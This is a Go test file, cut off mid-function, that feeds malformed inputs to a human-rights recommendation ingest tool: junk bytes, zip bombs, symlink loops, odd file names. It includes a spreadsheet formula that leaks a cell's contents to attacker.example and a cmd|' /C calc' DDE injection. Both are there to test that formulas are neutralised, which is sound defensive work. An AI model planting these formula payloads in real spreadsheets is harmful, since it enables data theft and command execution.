package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nmirf/nmirf/internal/badinput"
	"github.com/nmirf/nmirf/internal/shared"
	"github.com/nmirf/nmirf/load"
)

// Real inputs the bad ones are made from (see each package's PROVENANCE.md).
const (
	fxUPRCSV     = "extract/uprinfo/testdata/upr-info-sample-utf8-lf.csv"
	fxHTMLPage   = "extract/uprinfo/testdata/download-error-page.csv"
	fxUHRIXLSX   = "extract/uhri/testdata/uhri-export-sample.xlsx"
	fxUHRIJSON   = "extract/uhri/testdata/uhri-export-sample.json"
	fxMatrix     = "extract/matrix/testdata/Matrix_recommendations_2018.docx"
	fxTBCODocx   = "extract/tbco/testdata/co-nam-excerpt.docx"
	fxTBCOText   = "extract/tbco/testdata/CCPR_C_DNK_CO_6.txt"
	fxWGReport   = "data/sample/unitedkingdom2008.txt"
	fxCompil     = "extract/uprdoc/testdata/record_0001.json"
	fxMappedCSV  = "extract/mapped/testdata/ccpr-recommendations.csv"
	fxMappedTOML = "extract/mapped/testdata/ccpr-recommendations.toml"
	fxMappedXLSX = "extract/mapped/testdata/ccpr-recommendations.xlsx"
	fxMappedYAML = "extract/mapped/testdata/ccpr-recommendations.yaml"
	fxGDBCSV     = "extract/indicators/testdata/un-sdg-global-database/Goal1-slice.csv"
	fxGDBXLSX    = "extract/indicators/testdata/un-sdg-global-database/Goal1-slice.xlsx"
	fxOpenSDG    = "data/sample-indicators/open-sdg-uk"
)

const (
	xlsxSheet1   = "xl/worksheets/sheet1.xml"
	gdbDataSheet = "xl/worksheets/sheet2.xml" // the data sheet of fxGDBXLSX
	docxDocument = "word/document.xml"
)

func corpusFile(t *testing.T, rel string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(shared.Root(), rel))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func corpusPut(t *testing.T, dir, name string, b []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// uprRows returns the header and the first n rows of the UPR Info sample.
func uprInfoRows(t *testing.T, n int) []string {
	lines := strings.Split(string(corpusFile(t, fxUPRCSV)), "\n")
	return lines[:n+1]
}

// uprCSV writes the header and rows of an UPR Info export as name.
func writeUPRInfo(t *testing.T, dir, name string, lines []string) string {
	return corpusPut(t, dir, name, []byte(strings.Join(lines, "\n")+"\n"))
}

// bomb writes a zip bomb made from the real archive rel.
func bombFile(t *testing.T, dir, name, rel, member string, lie bool) string {
	t.Helper()
	split := badinput.SheetRows
	switch {
	case member == docxDocument && rel == fxTBCODocx:
		split = badinput.Paragraphs
	case member == docxDocument:
		split = badinput.TableRows
	}
	b, err := badinput.Bomb(corpusFile(t, rel), member, split, bombSize, lie)
	if err != nil {
		t.Fatal(err)
	}
	return corpusPut(t, dir, name, b)
}

// file is a kind reading one generated file with the given command.
func fileKind(name string, data func(t *testing.T) []byte, cmd ...string) func(t *testing.T, dir string) ([]string, []string) {
	return func(t *testing.T, dir string) ([]string, []string) {
		p := corpusPut(t, dir, name, data(t))
		return append(append([]string(nil), cmd...), p), []string{name}
	}
}

func constBytes(b []byte) func(*testing.T) []byte { return func(*testing.T) []byte { return b } }
func fixtureBytes(rel string) func(*testing.T) []byte {
	return func(t *testing.T) []byte { return corpusFile(t, rel) }
}
func truncatedFixture(rel string) func(*testing.T) []byte {
	return func(t *testing.T) []byte { return badinput.Truncate(corpusFile(t, rel), 0.6) }
}
func corruptedFixture(rel string) func(*testing.T) []byte {
	return func(t *testing.T) []byte { return badinput.Corrupt(corpusFile(t, rel)) }
}

// bombWords are what a message about a zip bomb says.
var bombWords = []string{"limit", "inflat", "too large", "larger than", "bomb", "uncompressed"}

var (
	junkBytes = badinput.Junk(64 << 10)
	// Row 2 of the UPR Info sample with the quote of its text left open:
	// the field runs on into row 3, as in the file the issue reports.
	unclosedQuoteRow = `Afghanistan,Asia,OIC,"Enact legislation,Austria,WEOG,EU,Accepted,5,Women's rights,5`
	// Row 3, whose quoted text holds a comma: the open field of row 2 ends
	// at its closing quote, and what follows parses as a whole row.
	quotedCommaRow = `Afghanistan,Asia,OIC,"Establish a mechanism in order to systematically monitor human rights in the administration of justice, and to organise human rights training courses for public officials.",Austria,WEOG,EU,Accepted,5,Justice,5`
)

// sqlKind is a query through `nmirf sql` that must be refused.
func sqlKind(query string) func(t *testing.T, dir string) ([]string, []string) {
	return func(t *testing.T, dir string) ([]string, []string) {
		q := strings.ReplaceAll(query, "DIR", dir)
		q = strings.ReplaceAll(q, "WAREHOUSE", filepath.Join(filepath.Dir(dir), "warehouse"))
		return []string{"sql", q}, []string{"read-only", "read only", "not allowed", "refused", "permission", "external access", "one statement", "single statement", "disabled", "locked", "nothing else"}
	}
}

// configKind writes nmirf.toml into dir and runs it.
func configKind(body string) func(t *testing.T, dir string) ([]string, []string) {
	return func(t *testing.T, dir string) ([]string, []string) {
		p := corpusPut(t, dir, "nmirf.toml", []byte(strings.ReplaceAll(body, "DIR", dir)))
		return []string{"run", "--config", p}, []string{"nmirf.toml"}
	}
}

// mapping writes a CSV, a mapping file and runs ingest --format mapped.
func mappedKind(mapName, mapBody string, csvName string, csvBody func(t *testing.T) []byte, names ...string) func(t *testing.T, dir string) ([]string, []string) {
	return func(t *testing.T, dir string) ([]string, []string) {
		m := corpusPut(t, dir, mapName, []byte(mapBody))
		c := corpusPut(t, dir, csvName, csvBody(t))
		return []string{"ingest", "--format", "mapped", "--mapping", m, c}, append([]string{mapName}, names...)
	}
}

// noFile checks that the command wrote no file at rel under the case folder.
func wroteNoFile(rel string) func(t *testing.T, ws, dir string, r *badResult) string {
	return func(t *testing.T, ws, dir string, r *badResult) string {
		if _, err := os.Stat(filepath.Join(dir, "in", rel)); err == nil {
			return "wrote " + rel
		}
		return ""
	}
}

// formulaText is a recommendation whose text a spreadsheet would evaluate.
const formulaText = `=HYPERLINK("http://attacker.example/?leak="&A1,"Ensure the independence of the national human rights institution")`

// formulaNeutralised checks that the formula was imported as text and that
// the CSV report written by the run does not start a cell with it.
func formulaNeutralised(t *testing.T, ws, dir string, r *badResult) string {
	w, err := load.Open(context.Background(), ws)
	if err != nil {
		return err.Error()
	}
	var n int
	err = w.DB().QueryRow(`SELECT count(*) FROM recommendations WHERE text LIKE '%HYPERLINK%'`).Scan(&n)
	w.Close()
	if err != nil {
		return err.Error()
	}
	if n == 0 {
		return "the formula text was not imported"
	}
	f, err := os.Open(filepath.Join(ws, "reports", "clusters-GBR.csv"))
	if err != nil {
		return "no clusters report: " + err.Error()
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		return "clusters report: " + err.Error()
	}
	found := 0
	for i, row := range rows {
		for _, cell := range row {
			if !strings.Contains(cell, "HYPERLINK") {
				continue
			}
			found++
			if strings.ContainsAny(cell[:1], "=+-@\t\r") {
				return fmt.Sprintf("clusters-GBR.csv row %d: a cell starts %q, a formula a spreadsheet evaluates", i+1, clipText(cell, 20))
			}
		}
	}
	if found == 0 {
		return "the formula text is not in the clusters report"
	}
	return ""
}

// badKinds lists the corpus. Each kind says what nmirf must do with it.
func badKinds() []badKind {
	gbrRow := func(text string) string {
		return `United Kingdom,WEOG,"EU, Commonwealth",` + text + `,Canada,WEOG,"OAS, OIF, Commonwealth",Accepted,4,Justice,1`
	}
	csvQuote := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	k := []badKind{
		// Recommendation files, format detected from content.
		{name: "empty file", make: fileKind("export.csv", constBytes(nil), "ingest"), say: []string{"empty"}},
		{name: "empty file, --format upr-info-csv", make: fileKind("export.csv", constBytes(nil), "ingest", "--format", "upr-info-csv"), say: []string{"empty"}},
		{name: "only blank lines", make: fileKind("export.csv", constBytes([]byte("\n\r\n  \n\t\n")), "ingest")},
		{name: "binary junk as .csv", make: fileKind("export.csv", constBytes(junkBytes), "ingest")},
		{name: "binary junk, --format uhri-json", make: fileKind("export.json", constBytes(junkBytes), "ingest", "--format", "uhri-json")},
		{name: "HTML error page as .csv", make: fileKind("export.csv", fixtureBytes(fxHTMLPage), "ingest"), say: []string{"html"}},
		{name: "HTML error page as .csv, --format upr-info-csv", make: fileKind("export.csv", fixtureBytes(fxHTMLPage), "ingest", "--format", "upr-info-csv"), say: []string{"html"}},
		{name: "HTML error page as .xlsx", make: fileKind("export.xlsx", fixtureBytes(fxHTMLPage), "ingest"), say: []string{"html"}},
		{name: "HTML error page as .xlsx, --format uhri-xlsx", make: fileKind("export.xlsx", fixtureBytes(fxHTMLPage), "ingest", "--format", "uhri-xlsx")},
		{name: "HTML error page as .docx, --format ohchr-matrix-docx", make: fileKind("matrix.docx", fixtureBytes(fxHTMLPage), "ingest", "--format", "ohchr-matrix-docx")},
		{name: "HTML error page as .xls, --format upr-info-xls", make: fileKind("1-5.xls", fixtureBytes(fxHTMLPage), "ingest", "--format", "upr-info-xls")},
		{name: "UTF-16LE with BOM", want: wantAccepted, check: importedText("Enact legislation and take effective measures"), make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "export.csv", badinput.UTF16LE(strings.Join(uprInfoRows(t, 5), "\r\n"), true))
			return []string{"ingest", p}, []string{"export.csv"}
		}},
		{name: "UTF-16LE without BOM", make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "export.csv", badinput.UTF16LE(strings.Join(uprInfoRows(t, 5), "\r\n"), false))
			return []string{"ingest", p}, []string{"export.csv"}
		}},
		{name: "UTF-16LE with BOM, --format upr-info-csv", want: wantAccepted, check: importedText("Enact legislation and take effective measures"), make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "export.csv", badinput.UTF16LE(strings.Join(uprInfoRows(t, 5), "\r\n"), true))
			return []string{"ingest", "--format", "upr-info-csv", p}, []string{"export.csv"}
		}},
		{name: "UTF-16 UHRI JSON", make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "uhri.json", badinput.UTF16LE(string(corpusFile(t, fxUHRIJSON)), true))
			return []string{"ingest", p}, []string{"uhri.json"}
		}},
		{name: "unclosed quote swallowing rows", want: wantRejected, check: notImported("Establish a mechanism in order to systematically monitor"), make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 6)
			rows[1], rows[2] = unclosedQuoteRow, quotedCommaRow
			return []string{"ingest", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"row 2", "line 2"}
		}, say: []string{"quote"}},
		{name: "unclosed quote in the last row", want: wantRejected, make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 6)
			rows[6] = strings.Replace(rows[6], `,"`, `,"`+"unterminated ", 1)
			rows[6] = strings.Replace(rows[6], `",`, ` `, 1)
			return []string{"ingest", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"row 6", "line 6", "row 7", "line 7"}
		}},
		{name: "huge field (8 MB text)", want: wantRejected, check: func(t *testing.T, ws, dir string, r *badResult) string {
			return warehouseAnswers(ws, `SELECT count(*) FROM recommendations WHERE length(text) > 65536`, "0")
		}, make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 3)
			rows = append(rows, gbrRow(csvQuote(strings.Repeat("Ensure the rights of all. ", 320_000))))
			return []string{"ingest", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"row 4", "line 4", "row 5", "line 5"}
		}, say: []string{"limit", "too long", "bytes"}},
		{name: "a million columns", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 1)
			return []string{"ingest", corpusPut(t, dir, "export.csv", []byte(badinput.WideCSV(rows[0], rows[1], 1_000_000)))}, []string{"export.csv"}
		}, say: []string{"column"}},
		{name: "a million columns, --format upr-info-csv", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 1)
			return []string{"ingest", "--format", "upr-info-csv", corpusPut(t, dir, "export.csv", []byte(badinput.WideCSV(rows[0], rows[1], 1_000_000)))}, []string{"export.csv"}
		}, say: []string{"column"}},
		// Two From columns (the second was From-Org): which one is the State?
		{name: "duplicated header", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 4)
			rows[0] = strings.Replace(rows[0], "From-Org", "From", 1)
			return []string{"ingest", "--format", "upr-info-csv", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"export.csv"}
		}, say: []string{"duplicate", "twice", "more than once"}},
		{name: "required column missing", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 4)
			rows[0] = strings.Replace(rows[0], "Text", "Texte", 1)
			return []string{"ingest", "--format", "upr-info-csv", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"export.csv"}
		}, say: []string{"Text"}},
		{name: "header only, no rows", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", writeUPRInfo(t, dir, "export.csv", uprInfoRows(t, 0))}, []string{"export.csv"}
		}, say: []string{"no record", "no row", "no recommendation", "empty"}},
		{name: "numbers where a country is expected", want: wantRejected, make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 4)
			rows[2] = "12345" + rows[2][strings.Index(rows[2], ","):]
			return []string{"ingest", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"row 3", "line 3"}
		}, say: []string{"12345"}},
		{name: "NUL bytes in a CSV", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 4)
			rows[2] = strings.Replace(rows[2], " ", "\x00\x00", 3)
			return []string{"ingest", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"export.csv"}
		}},
		{name: "rows shorter than the header", want: wantRejected, make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 4)
			rows[3] = "Afghanistan,Asia"
			return []string{"ingest", "--format", "upr-info-csv", writeUPRInfo(t, dir, "export.csv", rows)}, []string{"row 4", "line 4", "record 4"}
		}},
		{name: "UHRI JSON truncated", make: fileKind("uhri.json", truncatedFixture(fxUHRIJSON), "ingest", "--format", "uhri-json")},
		{name: "UHRI JSON truncated, auto", make: fileKind("uhri.json", truncatedFixture(fxUHRIJSON), "ingest")},
		{name: "UHRI JSON an object, not a list", make: fileKind("uhri.json", constBytes([]byte(`{"Text":"Ratify the Convention","Countries":["China"]}`)), "ingest", "--format", "uhri-json")},
		{name: "UHRI JSON Text is a number", want: wantRejected, make: fileKindNamed([]string{"row 1 "}, "uhri.json", func(t *testing.T) []byte {
			return []byte(strings.Replace(string(corpusFile(t, fxUHRIJSON)), `"Text": "<p>186.54 Continue its ongoing review of national laws to ensure that they are in line with its international human rights law obligations (Turkmenistan);</p>"`, `"Text": 18654`, 1))
		}, "ingest", "--format", "uhri-json"), say: []string{"number"}},
		{name: "UHRI JSON every Text a number", make: fileKind("uhri.json", func(t *testing.T) []byte {
			var recs []map[string]any
			if err := json.Unmarshal(corpusFile(t, fxUHRIJSON), &recs); err != nil {
				t.Fatal(err)
			}
			for i, r := range recs {
				r["Text"] = 1000 + i
			}
			b, _ := json.Marshal(recs)
			return b
		}, "ingest", "--format", "uhri-json"), say: []string{"number"}},
		{name: "UHRI JSON Countries is a string, not a list", want: wantAccepted, check: func(t *testing.T, ws, dir string, r *badResult) string {
			return warehouseAnswers(ws, `SELECT count(*) FROM recommendations WHERE text LIKE '%ongoing review of national laws%' AND country_iso3 = 'CHN'`, "1")
		}, make: fileKind("uhri.json", func(t *testing.T) []byte {
			return []byte(strings.Replace(string(corpusFile(t, fxUHRIJSON)), "\"Countries\": [\n      \"China\"\n    ]", `"Countries": "China"`, 1))
		}, "ingest", "--format", "uhri-json")},
		{name: "JSON nested 100,000 deep", make: fileKind("uhri.json", constBytes([]byte(strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))), "ingest", "--format", "uhri-json")},
		{name: "UHRI XLSX truncated, --format uhri-xlsx", make: fileKind("uhri.xlsx", truncatedFixture(fxUHRIXLSX), "ingest", "--format", "uhri-xlsx"), say: []string{"zip"}},
		{name: "UHRI XLSX truncated, auto", make: fileKind("uhri.xlsx", truncatedFixture(fxUHRIXLSX), "ingest"), say: []string{"not a valid zip", "truncated", "corrupt"}},
		{name: "UHRI XLSX corrupted inside", make: fileKind("uhri.xlsx", corruptedFixture(fxUHRIXLSX), "ingest", "--format", "uhri-xlsx")},
		{name: "UHRI XLSX zip bomb, --format uhri-xlsx", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", "--format", "uhri-xlsx", bombFile(t, dir, "uhri.xlsx", fxUHRIXLSX, xlsxSheet1, false)}, []string{"uhri.xlsx"}
		}, say: bombWords},
		{name: "UHRI XLSX zip bomb, auto", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", bombFile(t, dir, "uhri.xlsx", fxUHRIXLSX, xlsxSheet1, false)}, []string{"uhri.xlsx"}
		}, say: bombWords},
		{name: "UHRI XLSX zip bomb declaring a small size", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", "--format", "uhri-xlsx", bombFile(t, dir, "uhri.xlsx", fxUHRIXLSX, xlsxSheet1, true)}, []string{"uhri.xlsx"}
		}, say: bombWords},
		{name: "valid XLSX of the wrong kind, --format uhri-xlsx", make: fileKind("uhri.xlsx", fixtureBytes(fxMappedXLSX), "ingest", "--format", "uhri-xlsx")},
		{name: "valid XLSX of no known kind, auto", make: fileKind("tracker.xlsx", fixtureBytes(fxMappedXLSX), "ingest")},
		{name: "OHCHR matrix truncated, --format ohchr-matrix-docx", make: fileKind("matrix.docx", truncatedFixture(fxMatrix), "ingest", "--format", "ohchr-matrix-docx"), say: []string{"zip"}},
		{name: "OHCHR matrix truncated, auto", make: fileKind("matrix.docx", truncatedFixture(fxMatrix), "ingest"), say: []string{"not a valid zip", "truncated", "corrupt"}},
		{name: "OHCHR matrix corrupted inside", make: fileKind("matrix.docx", corruptedFixture(fxMatrix), "ingest", "--format", "ohchr-matrix-docx")},
		{name: "OHCHR matrix zip bomb", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", "--format", "ohchr-matrix-docx", bombFile(t, dir, "matrix.docx", fxMatrix, docxDocument, false)}, []string{"matrix.docx"}
		}, say: bombWords},
		{name: "DOCX without a table, --format ohchr-matrix-docx", make: fileKind("matrix.docx", fixtureBytes(fxTBCODocx), "ingest", "--format", "ohchr-matrix-docx"), say: []string{"table"}},
		{name: "treaty-body DOCX truncated", make: fileKind("co.docx", truncatedFixture(fxTBCODocx), "ingest", "--format", "tb-concluding-observations")},
		{name: "treaty-body DOCX zip bomb", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", "--format", "tb-concluding-observations", bombFile(t, dir, "co.docx", fxTBCODocx, docxDocument, false)}, []string{"co.docx"}
		}, say: bombWords},
		{name: "treaty-body text of binary junk", make: fileKind("CCPR_C_XXX_CO_1.txt", constBytes(junkBytes), "ingest", "--format", "tb-concluding-observations")},
		{name: "treaty-body text cut before its recommendations", make: fileKind("CCPR_C_DNK_CO_6.txt", func(t *testing.T) []byte { return corpusFile(t, fxTBCOText)[:600] }, "ingest", "--format", "tb-concluding-observations")},
		{name: "WG report of prose only, --format upr-wg-report", make: fileKind("report.txt", constBytes([]byte(strings.Repeat("The weather was fine and nothing was recommended.\n", 40))), "ingest", "--format", "upr-wg-report")},
		{name: "WG report cut in its title", make: fileKind("unitedkingdom2008.txt", func(t *testing.T) []byte { return corpusFile(t, fxWGReport)[:200] }, "ingest", "--format", "upr-wg-report")},
		{name: "WG report as binary junk", make: fileKind("report.txt", constBytes(junkBytes), "ingest", "--format", "upr-wg-report")},
		{name: "compilation JSON truncated", make: fileKind("record.json", truncatedFixture(fxCompil), "ingest", "--format", "upr-compilation")},
		{name: "compilation JSON text is a number", make: fileKind("record.json", func(t *testing.T) []byte {
			s := string(corpusFile(t, fxCompil))
			i := strings.Index(s, `"text": "`)
			j := strings.Index(s[i:], `",`+"\n")
			return []byte(s[:i] + `"text": 42` + s[i+j+1:])
		}, "ingest", "--format", "upr-compilation"), say: []string{"text"}},
		{name: "UPR Info XLS of junk after the OLE2 signature", make: fileKind("1-5.xls", func(*testing.T) []byte {
			return append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, junkBytes[:4096]...)
		}, "ingest", "--format", "upr-info-xls")},
		{name: "UPR Info XLS of junk after the OLE2 signature, auto", make: fileKind("1-5.xls", func(*testing.T) []byte {
			return append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, junkBytes[:4096]...)
		}, "ingest")},
		{name: "unknown --format", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", "--format", "upr-info-pdf", writeUPRInfo(t, dir, "export.csv", uprInfoRows(t, 3))}, []string{"upr-info-pdf"}
		}},
		{name: "path that does not exist", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", filepath.Join(dir, "missing.csv")}, []string{"missing.csv"}
		}},
		{name: "empty folder", make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "inbox")
			os.Mkdir(d, 0o755)
			return []string{"ingest", d}, []string{"inbox"}
		}},
		// Links are followed (a link to an export in an inbox is an export);
		// the .md file is left out with a note naming it.
		{name: "folder of only a .md file and a symlink", want: wantAccepted, check: func(t *testing.T, ws, dir string, r *badResult) string {
			if !strings.Contains(r.stderr, "README.md") {
				return "the .md file left out is not named: " + clipText(r.stderr, 300)
			}
			return warehouseAnswers(ws, `SELECT count(*) > 0 FROM input_files WHERE name = 'linked.csv'`, "true")
		}, make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "inbox")
			os.Mkdir(d, 0o755)
			corpusPut(t, d, "README.md", []byte("# inbox\n"))
			writeUPRInfo(t, dir, "export.csv", uprInfoRows(t, 3))
			os.Symlink(filepath.Join(dir, "export.csv"), filepath.Join(d, "linked.csv"))
			return []string{"ingest", d}, []string{"README.md", "linked.csv"}
		}},
		{name: "symlink loop", make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "inbox")
			os.Mkdir(d, 0o755)
			os.Symlink("b.csv", filepath.Join(d, "a.csv"))
			os.Symlink("a.csv", filepath.Join(d, "b.csv"))
			return []string{"ingest", filepath.Join(d, "a.csv")}, []string{"a.csv"}
		}},
		{name: "folder symlinked into itself", make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "inbox")
			os.Mkdir(d, 0o755)
			os.Symlink(".", filepath.Join(d, "again"))
			corpusPut(t, d, "export.csv", junkBytes)
			return []string{"ingest", d}, []string{"export.csv"}
		}},
		{name: "dangling symlink", make: func(t *testing.T, dir string) ([]string, []string) {
			p := filepath.Join(dir, "export.csv")
			os.Symlink(filepath.Join(dir, "gone.csv"), p)
			return []string{"ingest", p}, []string{"export.csv"}
		}},
		// Odd file names, each holding a bad file: the message must name it.
		{name: "file name with spaces", make: fileKind("UPR export (copy 2).csv", constBytes(junkBytes), "ingest")},
		{name: "file name in Arabic and Cyrillic", make: fileKind("توصيات-рекомендации.csv", constBytes(junkBytes), "ingest")},
		{name: "file name with a newline", make: fileKind("export\nrow.csv", constBytes(junkBytes), "ingest")},
		{name: "file name of 250 bytes", make: fileKind(strings.Repeat("long", 62)+".csv", constBytes(junkBytes), "ingest")},
		{name: "file name with a leading dash", make: func(t *testing.T, dir string) ([]string, []string) {
			corpusPut(t, filepath.Dir(dir), "-export.csv", junkBytes) // the command runs in the case folder
			return []string{"ingest", "--", "-export.csv"}, []string{"-export.csv"}
		}},
		// Formulas are data: imported as text, neutralised in report files.
		{name: "formula in a CSV cell", want: wantAccepted, make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 0)
			rows = append(rows, gbrRow(csvQuote(formulaText)), gbrRow(csvQuote("+SUM(1+1)*cmd|' /C calc'!A0 Ratify the Convention against Torture")))
			p := writeUPRInfo(t, dir, "export.csv", rows)
			c := corpusPut(t, dir, "nmirf.toml", []byte(fmt.Sprintf("[ingest]\npaths = [%q]\n[[reports]]\nkind = \"clusters\"\ncountries = [\"GBR\"]\nformats = [\"csv\"]\n", p)))
			return []string{"run", "--config", c}, []string{"export.csv"}
		}, check: formulaNeutralised},

		// Mapped spreadsheets and their mapping files.
		{name: "mapped without --mapping", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"ingest", "--format", "mapped", corpusPut(t, dir, "list.csv", corpusFile(t, fxMappedCSV))}, []string{"mapping"}
		}},
		{name: "mapping file that does not exist", make: func(t *testing.T, dir string) ([]string, []string) {
			c := corpusPut(t, dir, "list.csv", corpusFile(t, fxMappedCSV))
			return []string{"ingest", "--format", "mapped", "--mapping", filepath.Join(dir, "cols.toml"), c}, []string{"cols.toml"}
		}},
		{name: "mapping TOML with an unknown key", make: mappedKind("cols.toml", "[columns]\ntext = \"Recommendation\"\ncountry = \"State\"\ncolour = \"Theme\"\n", "list.csv", fixtureBytes(fxMappedCSV)), say: []string{"colour"}},
		{name: "mapping YAML with an unknown key", make: mappedKind("cols.yaml", "columns:\n  text: Recommendation\n  country: State\n  colour: Theme\n", "list.csv", fixtureBytes(fxMappedCSV)), say: []string{"colour"}},
		{name: "mapping names a missing column", make: mappedKind("cols.toml", "[columns]\ntext = \"Recomendation\"\ncountry = \"State\"\n", "list.csv", fixtureBytes(fxMappedCSV)), say: []string{"Recomendation"}},
		{name: "mapping TOML wrong type", make: mappedKind("cols.toml", "[columns]\ntext = 7\ncountry = \"State\"\n", "list.csv", fixtureBytes(fxMappedCSV)), say: []string{"text"}},
		{name: "mapping YAML wrong type", make: mappedKind("cols.yaml", "columns:\n  - Recommendation\n  - State\n", "list.csv", fixtureBytes(fxMappedCSV)), say: []string{"columns"}},
		{name: "mapping TOML syntax error", make: mappedKind("cols.toml", "[columns\ntext = \"Recommendation\"\n", "list.csv", fixtureBytes(fxMappedCSV))},
		{name: "mapping without the text column", make: mappedKind("cols.toml", "[columns]\ncountry = \"State\"\n", "list.csv", fixtureBytes(fxMappedCSV)), say: []string{"text"}},
		{name: "mapping names a missing sheet", make: mappedKind("cols.yaml", strings.Replace(fixtureText(fxMappedYAML), "sheet: Recommendations", "sheet: Recs2019", 1), "list.xlsx", fixtureBytes(fxMappedXLSX), "list.xlsx"), say: []string{"Recs2019"}},
		{name: "mapping header_row past the end", make: mappedKind("cols.yaml", strings.Replace(fixtureText(fxMappedYAML), "header_row: 2", "header_row: 900", 1), "list.xlsx", fixtureBytes(fxMappedXLSX), "list.xlsx"), say: []string{"900", "header"}},
		{name: "mapping is binary junk", make: mappedKind("cols.toml", string(junkBytes[:2048]), "list.csv", fixtureBytes(fxMappedCSV))},
		{name: "mapped XLSX truncated", make: mappedKind("cols.yaml", fixtureText(fxMappedYAML), "list.xlsx", truncatedFixture(fxMappedXLSX), "list.xlsx")},
		{name: "mapped XLSX zip bomb", make: func(t *testing.T, dir string) ([]string, []string) {
			m := corpusPut(t, dir, "cols.yaml", []byte(strings.Replace(fixtureText(fxMappedYAML), "header_row: 2", "header_row: 1", 1)))
			return []string{"ingest", "--format", "mapped", "--mapping", m, bombFile(t, dir, "list.xlsx", fxMappedXLSX, xlsxSheet1, false)}, []string{"list.xlsx"}
		}, say: bombWords},
		{name: "mapped CSV of a million columns", make: mappedKind("cols.toml", fixtureText(fxMappedTOML), "list.csv", func(t *testing.T) []byte {
			lines := strings.SplitN(string(corpusFile(t, fxMappedCSV)), "\n", 3)
			return []byte(badinput.WideCSV(lines[0], lines[1], 1_000_000))
		}, "list.csv"), say: []string{"column"}},
		{name: "mapped CSV date that is not a date", want: wantAccepted, make: mappedKind("cols.toml", fixtureText(fxMappedTOML), "list.csv", func(t *testing.T) []byte {
			return []byte(strings.Replace(string(corpusFile(t, fxMappedCSV)), "15 August 2016", "next Tuesday", 1))
		}, "row 2", "line 2"), say: []string{"next Tuesday"}},

		// SDG indicator data.
		{name: "indicators: empty file", make: fileKind("Goal1.csv", constBytes(nil), "indicators", "import"), say: []string{"empty"}},
		{name: "indicators: binary junk", make: fileKind("Goal1.csv", constBytes(junkBytes), "indicators", "import")},
		{name: "indicators: HTML error page", make: fileKind("Goal1.csv", fixtureBytes(fxHTMLPage), "indicators", "import")},
		{name: "indicators: UTF-16 CSV", want: wantAccepted, check: func(t *testing.T, ws, dir string, r *badResult) string {
			return warehouseAnswers(ws, `SELECT count(*) > 0 FROM indicator_observations WHERE file = 'Goal1.csv' AND value IS NOT NULL`, "true")
		}, make: fileKind("Goal1.csv", func(t *testing.T) []byte { return badinput.UTF16LE(string(corpusFile(t, fxGDBCSV)), true) }, "indicators", "import")},
		{name: "indicators: XLSX truncated", make: fileKind("Goal1.xlsx", truncatedFixture(fxGDBXLSX), "indicators", "import")},
		{name: "indicators: XLSX zip bomb", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"indicators", "import", bombFile(t, dir, "Goal1.xlsx", fxGDBXLSX, gdbDataSheet, false)}, []string{"Goal1.xlsx"}
		}, say: bombWords},
		{name: "indicators: a million columns", make: fileKind("Goal1.csv", func(t *testing.T) []byte {
			lines := strings.SplitN(string(corpusFile(t, fxGDBCSV)), "\n", 3)
			return []byte(badinput.WideCSV(lines[0], lines[1], 1_000_000))
		}, "indicators", "import")},
		// The raw value is kept beside the number (values like "<5" are real).
		{name: "indicators: value that is not a number", want: wantAccepted, check: func(t *testing.T, ws, dir string, r *badResult) string {
			return warehouseAnswers(ws, `SELECT count(*) FROM indicator_observations WHERE file = 'Goal1.csv' AND value_raw = 'twelve' AND value IS NULL`, "1")
		}, make: fileKind("Goal1.csv", func(t *testing.T) []byte {
